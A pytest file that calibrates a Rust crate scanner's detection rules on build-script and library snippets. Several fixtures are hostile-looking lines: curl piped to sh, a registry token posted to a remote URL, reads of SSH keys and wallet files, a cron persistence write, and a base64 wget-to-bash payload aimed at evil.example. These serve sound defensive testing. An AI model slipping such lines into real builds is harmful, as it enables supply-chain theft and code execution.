"""Rules and their calibration on build-script and library snippets, table-driven."""

from __future__ import annotations

import pytest

from cratewatch.inspect.model import InspectReport, Role, Severity
from cratewatch.inspect.scan import inspect_source
from cratewatch.inspect.source import CrateSource

INFO, LOW, MEDIUM, HIGH, CRITICAL = (
    Severity.INFO,
    Severity.LOW,
    Severity.MEDIUM,
    Severity.HIGH,
    Severity.CRITICAL,
)


def scan(files: dict[str, str], *, proc_macro: bool = False) -> InspectReport:
    manifest = '[package]\nname = "demo"\nversion = "0.1.0"\n'
    if proc_macro:
        manifest += "[lib]\nproc-macro = true\n"
    contents = {"Cargo.toml": manifest, **files}
    return inspect_source(
        CrateSource(
            name="demo",
            version="0.1.0",
            origin="test",
            checksum="n/a",
            files={k: v.encode() for k, v in contents.items()},
        )
    )


def found(report: InspectReport) -> set[tuple[str, Severity]]:
    return {(s.id, s.severity) for s in report.signals if s.id not in ("build.script",)}


def build(body: str, prelude: str = "") -> dict[str, str]:
    return {"build.rs": f"{prelude}\nfn main() {{\n{body}\n}}\n"}


# (id, build.rs prelude, main body, exact signals besides build.script)
BUILD_SCRIPT_CASES = [
    (
        "rustc-version-probe",
        "use std::env; use std::process::Command;",
        'let rustc = env::var("RUSTC").unwrap();'
        ' Command::new(rustc).arg("--version").output().unwrap();',
        {("process.toolchain", INFO)},
    ),
    (
        "rustc-var-os",
        "",
        'std::process::Command::new(std::env::var_os("RUSTC").unwrap()).arg("-vV");',
        {("process.toolchain", INFO)},
    ),
    ("cc-build", "", 'cc::Build::new().file("src/a.c").compile("a");', set()),
    (
        "standard-env",
        "use std::env;",
        'let _ = (env::var("TARGET"), env::var("OUT_DIR"), env::var("PROFILE"), env::var("HOST"),'
        ' env::var("NUM_JOBS"), env::var("DEBUG"), env::var("OPT_LEVEL"),'
        ' env::var("CARGO_MANIFEST_DIR"), env::var("CARGO_CFG_TARGET_OS"), env::var("CC"));',
        set(),
    ),
    (
        "out-dir-write",
        "use std::{env, fs, path::Path};",
        'let out = env::var("OUT_DIR").unwrap();'
        ' fs::write(Path::new(&out).join("x.rs"), "").unwrap();',
        set(),
    ),
    (
        "pkg-config",
        "",
        'pkg_config::probe_library("zlib").unwrap();'
        ' std::process::Command::new("pkg-config").arg("--libs").arg("zlib").output().ok();',
        {("process.toolchain", INFO)},
    ),
    (
        "cargo-directives",
        "",
        'println!("cargo:rerun-if-changed=build.rs"); println!("cargo:rustc-cfg=fast");'
        ' println!("cargo::rustc-check-cfg=cfg(fast)");',
        set(),
    ),
    (
        "git-rev-parse",
        "use std::process::Command;",
        'Command::new("git").args(["rev-parse", "HEAD"]).output().ok();',
        {("process.toolchain", INFO)},
    ),
    (
        "git-clone",
        "use std::process::Command;",
        'Command::new("git").args(["clone", "https://github.com/x/y"]).status().ok();',
        {("process.network-tool", HIGH)},
    ),
    (
        "git-submodule",
        "use std::process::Command;",
        'Command::new("git").args(["submodule", "update", "--init"]).status().ok();',
        {("process.network-tool", MEDIUM)},
    ),
    (
        "unknown-program",
        "use std::process::Command;",
        'Command::new("pg_config").output().ok();',
        {("process.spawn", LOW)},
    ),
    (
        "dynamic-program",
        "use std::process::Command;",
        "let p = find_tool(); Command::new(p).output().ok();",
        {("process.dynamic", LOW)},
    ),
    (
        "curl",
        "use std::process::Command;",
        'Command::new("curl").args(["-o", "x", "https://example.com/x"]).status().ok();',
        {("process.network-tool", HIGH)},
    ),
    (
        "sh-c-curl",
        "use std::process::Command;",
        'Command::new("sh").arg("-c").arg("curl -s https://example.com/i | sh").status().ok();',
        {("process.shell-network", HIGH), ("combo.download-execute", CRITICAL)},
    ),
    (
        "sh-c-dynamic",
        "use std::process::Command;",
        'let cmd = make(); Command::new("sh").arg("-c").arg(cmd).status().ok();',
        {("process.shell", MEDIUM)},
    ),
    (
        "sh-c-toolchain",
        "use std::process::Command;",
        'Command::new("sh").args(["-c", "uname -m"]).output().ok();',
        {("process.shell", LOW)},
    ),
    (
        "sh-configure",
        "use std::process::Command;",
        'Command::new("sh").arg("configure").status().ok();',
        {("process.shell-script", LOW)},
    ),
    (
        "brew-query",
        "use std::process::Command;",
        'Command::new("brew").args(["--prefix", "openssl"]).output().ok();',
        {("process.spawn", LOW)},
    ),
    (
        "npm-install",
        "use std::process::Command;",
        'Command::new("npm").arg("install").status().ok();',
        {("process.network-tool", HIGH)},
    ),
    (
        "tcp",
        "use std::net::TcpStream;",
        'let _ = TcpStream::connect("example.com:80");',
        {("network.socket", HIGH)},
    ),
    (
        "reqwest-get",
        "",
        'let _ = reqwest::blocking::get("https://example.com/lib.tar.gz");',
        {("network.http-client", HIGH)},
    ),
    (
        "ureq-glob",
        "use ureq::*;",
        'let _ = get("https://example.com/lib.tar.gz").call();',
        {("network.http-client", HIGH)},
    ),
    ("secret-env", "use std::env;", 'let _ = env::var("GITHUB_TOKEN");', {("env.secret", MEDIUM)}),
    ("aws-lc-is-not-a-secret", "use std::env;", 'let _ = env::var("AWS_LC_SYS_STATIC");', set()),
    (
        "secret-plus-network",
        "use std::env;",
        'let t = env::var("CARGO_REGISTRY_TOKEN").unwrap();'
        ' let _ = ureq::post("https://example.com/").send_string(&t);',
        {("env.secret", MEDIUM), ("network.http-client", HIGH), ("combo.exfiltration", CRITICAL)},
    ),
    ("env-dump", "", "for (k, v) in std::env::vars() { let _ = (k, v); }", {("env.dump", LOW)}),
    (
        "env-dump-in-println",
        "",
        'println!("cargo:warning={:?}", std::env::vars().collect::<Vec<_>>());',
        {("env.dump", LOW)},
    ),
    ("ci-check", "", 'if std::env::var("GITLAB_CI").is_ok() { }', {("env.ci", LOW)}),
    ("compile-time-secret", "", 'let _k = env!("API_KEY");', {("env.compile-time-secret", MEDIUM)}),
    (
        "ssh-path",
        "",
        'let _ = std::fs::read("/home/u/.ssh/id_rsa");',
        {("fs.sensitive-path", HIGH)},
    ),
    (
        "wallet",
        "",
        'let _ = "Library/Application Support/Exodus/exodus.wallet";',
        {("fs.sensitive-path", HIGH)},
    ),
    (
        "cron",
        "",
        'let _ = std::fs::write("/etc/cron.d/job", "* * * * * x");',
        {("fs.persistence", HIGH), ("fs.write-outside", MEDIUM)},
    ),
    (
        "tmp-write",
        "",
        'std::fs::write("/tmp/marker", "x").unwrap();',
        {("fs.write-outside", MEDIUM)},
    ),
    (
        "chmod",
        "use std::os::unix::fs::PermissionsExt;",
        "let _ = std::fs::Permissions::from_mode(0o755);",
        {("fs.make-executable", MEDIUM)},
    ),
    (
        "chmod-0644",
        "use std::os::unix::fs::PermissionsExt;",
        "let _ = std::fs::Permissions::from_mode(0o644);",
        set(),
    ),
    ("webhook", "", 'let _ = "https://webhook.site/abc";', {("network.suspicious-url", HIGH)}),
    ("raw-ip", "", 'let _ = "http://8.8.8.8/x";', {("network.suspicious-url", HIGH)}),
    ("private-ip-is-fine", "", 'let _ = "http://127.0.0.1:8080/x";', set()),
    (
        "char-codes",
        "",
        "let _ = String::from_utf8(vec![104, 101, 108, 108, 111, 32, 119, 111]);",
        {("obfuscation.char-codes", MEDIUM)},
    ),
    (
        "xor-loop",
        "",
        "let mut d = data(); for b in d.iter_mut() { *b ^= 0x42; }",
        {("obfuscation.xor", MEDIUM)},
    ),
    (
        "crc-is-not-xor",
        "",
        "let mut c = 1u32; for _ in 0..8 { c = 0xEDB8_8320 ^ (c >> 1); }",
        set(),
    ),
    (
        "base64-payload",
        "",
        'let _ = "d2dldCAtcSBodHRwczovL2V2aWwuZXhhbXBsZS9wIC1PIC0gfCBiYXNo";',
        {("obfuscation.decoded-payload", HIGH)},
    ),
    ("hex-blob", "", f'let _ = "{"a1b2c3d4e5f60718" * 12}";', {("obfuscation.hex", MEDIUM)}),
    ("libc-system", "", 'unsafe { libc::system(c"ls".as_ptr()); }', {("process.exec", MEDIUM)}),
    (
        "link-search-tmp",
        "",
        'println!("cargo:rustc-link-search=native=/tmp/libs");',
        {("build.link-search", LOW)},
    ),
    ("native-lib", "", 'println!("cargo:rustc-link-lib=static=z");', {("build.native-lib", INFO)}),
]


@pytest.mark.parametrize(
    ("prelude", "body", "expected"),
    [pytest.param(p, b, e, id=i) for i, p, b, e in BUILD_SCRIPT_CASES],
)
def test_build_script_calibration(
    prelude: str, body: str, expected: set[tuple[str, Severity]]
) -> None:
    assert found(scan(build(body, prelude))) == expected


# the same code in library (runtime) code: only combinations and hidden payloads are reported
RUNTIME_CASES = [
    ("http-client", 'pub fn f() { let _ = reqwest::blocking::get("https://example.com"); }', set()),
    (
        "token-client",
        'pub fn f() { let t = std::env::var("API_TOKEN");'
        ' let _ = ureq::get("https://x.example/"); }',
        {("combo.exfiltration", MEDIUM)},
    ),
    ("spawn", 'pub fn f() { std::process::Command::new("ls").status().ok(); }', set()),
    ("ssh-path", 'pub const P: &str = ".ssh/known_hosts";', {("fs.sensitive-path", LOW)}),
    (
        "pipe-to-shell",
        'pub fn f() { std::process::Command::new("sh")'
        '.args(["-c", "curl x.sh | sh"]).status().ok(); }',
        {("process.shell-network", HIGH)},
    ),
    (
        "download-exec",
        "use std::os::unix::fs::PermissionsExt;\n"
        'pub fn f() { let _ = ureq::get("https://x.example/b").call(); '
        "let _ = std::fs::Permissions::from_mode(0o755); }",
        {("combo.download-execute", HIGH)},
    ),
    ("xor-is-crypto", "pub fn f(d: &mut [u8]) { for b in d.iter_mut() { *b ^= 0x36; } }", set()),
    (
        "test-module",
        "#[cfg(test)]\nmod tests {\n    #[test]\n"
        '    fn t() { std::process::Command::new("sh").args(["-c", "curl x | sh"]).status(); }\n}',
        set(),
    ),
]


@pytest.mark.parametrize(
    ("code", "expected"), [pytest.param(c, e, id=i) for i, c, e in RUNTIME_CASES]
)
def test_runtime_calibration(code: str, expected: set[tuple[str, Severity]]) -> None:
    assert found(scan({"src/lib.rs": code})) == expected


def test_proc_macro_code_counts_as_build_time() -> None:
    code = 'pub fn expand() { let _ = std::net::TcpStream::connect("example.com:80"); }'
    report = scan({"src/lib.rs": code}, proc_macro=True)
    assert found(report) == {("network.socket", HIGH), ("build.proc-macro", INFO)}
    assert next(s for s in report.signals if s.id == "network.socket").role is Role.PROC_MACRO


def test_quote_bodies_are_generated_runtime_code() -> None:
    code = (
        "pub fn expand() -> proc_macro2::TokenStream {\n"
        '    quote::quote! { std::net::TcpStream::connect("example.com:80"); }\n'
        "}\n"
    )
    assert found(scan({"src/lib.rs": code}, proc_macro=True)) == {("build.proc-macro", INFO)}


def test_build_script_modules_are_followed() -> None:
    files = {
        "build.rs": '#[path = "tools/net.rs"]\nmod net;\nmod helpers;\nfn main() {}\n',
        "tools/net.rs": 'pub fn f() { let _ = std::net::TcpStream::connect("h:1"); }\n',
        "helpers.rs": 'pub fn g() { let _ = std::env::var("NPM_TOKEN"); }\n',
    }
    report = scan(files)
    assert {(s.id, s.file, s.line) for s in report.signals if s.severity >= MEDIUM} == {
        ("network.socket", "tools/net.rs", 1),
        ("env.secret", "helpers.rs", 1),
        ("combo.exfiltration", "tools/net.rs", 1),
    }


def test_macro_arguments_keep_file_lines() -> None:
    code = (
        'fn main() {\n    println!(\n        "{}",\n'
        '        std::env::var("AWS_SECRET_ACCESS_KEY").unwrap()\n    );\n}\n'
    )
    (secret,) = [s for s in scan({"build.rs": code}).signals if s.id == "env.secret"]
    assert (secret.line, secret.excerpt) == (4, 'std::env::var("AWS_SECRET_ACCESS_KEY").unwrap()')
